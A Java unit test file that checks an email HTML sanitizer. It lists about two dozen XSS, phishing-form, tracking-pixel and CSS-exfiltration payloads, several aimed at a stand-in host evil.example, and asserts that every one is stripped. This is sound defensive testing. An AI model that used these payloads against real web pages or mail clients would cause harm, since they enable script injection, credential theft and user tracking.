package org.amends.mail.reading;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Attacks 14 and 17: what a mail's HTML may do on our page is nothing. */
class HtmlBodyTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<img src=https://evil.example/pixel.gif>",
                "<a href=javascript:alert(1)>x</a>",
                "<a href=' java\tscript:alert(1)'>x</a>",
                "<a href=data:text/html,<script>alert(1)</script>>x</a>",
                "<a href=vbscript:x>x</a>",
                "<iframe src=https://evil.example></iframe>",
                "<object data=x></object><embed src=x>",
                "<form action=https://evil.example><input name=password><button>x</button></form>",
                "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<base href=https://evil.example>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<div style='position:fixed;background:url(https://evil.example)'>x</div>",
                "<p onclick=alert(1) class=x id=csrf name=y>x</p>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<template><script>alert(1)</script></template>",
                "<video src=x onerror=alert(1)></video><audio src=x></audio><picture><source srcset=x></picture>",
                "<table background=https://evil.example/x><tr><td background=https://evil.example/y>x</table>",
                "<!--<img src=--><img src=x onerror=alert(1)//>",
                "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
                "<a href='https://ok.example' target=_top ping=https://evil.example>x</a>"
            })
    void nothing_runs_nothing_is_fetched_nothing_is_styled(String html) {
        String safe = HtmlBody.parse(html).safe();
        assertThat(safe)
                .doesNotContainPattern(
                        "(?i)<(script|img|iframe|object|embed|form|input|button|style|link|base|meta|svg|math|video|audio|source"
                                + "|template|noscript|textarea)")
                .doesNotContainPattern(
                        "(?i)<[^>]+ (on\\w+|style|class|id|name|src|srcset|background|target|ping|title)=")
                .doesNotContainPattern("(?i)href=.?\\s*(java|vb|data)");
        assertThat(HtmlBody.parse(safe).safe())
                .as("cleaning twice changes nothing")
                .isEqualTo(safe);
    }

    @ParameterizedTest
    @CsvSource({
        "https://example.com/a?b=c, https://example.com/a?b=c",
        "mailto:a@example.com, mailto:a@example.com",
        "tel:+3725555, tel:+3725555"
    })
    void links_stay_and_tell_nobody_where_they_were_clicked(String href, String kept) {
        assertThat(HtmlBody.parse("<a href='" + href + "'>x</a>").safe())
                .isEqualTo("<a href=\"" + kept + "\" rel=\"noopener noreferrer nofollow\">x</a>");
    }

    @Test
    void a_picture_is_shown_by_its_words() {
        assertThat(HtmlBody.parse("<p>See <img src=cid:1 alt='the leak'></p>").safe())
                .isEqualTo("<p>See the leak</p>");
    }

    @Test
    void changes_of_direction_are_taken_out_even_as_entities() {
        assertThat(HtmlBody.parse("<p>a&#x202e;b&#8203;c</p>").safe()).isEqualTo("<p>abc</p>");
    }

    @Test
    void text_keeps_lines_lists_tables_and_the_address_behind_a_name() {
        String html =
                "<h1>Kettle</h1><p>It <b>leaks</b>,<br>always.</p><table><tr><td>Order</td><td>42</td></tr></table>"
                        + "<hr><pre>a\n  b</pre><a href='mailto:anna@example.com'>Anna</a>";
        assertThat(HtmlBody.parse(html).text())
                .isEqualTo(
                        "Kettle\n\nIt leaks,\nalways.\n\nOrder 42\n\n________________________________\na\n  b\n\nAnna <anna@example.com>");
    }
}
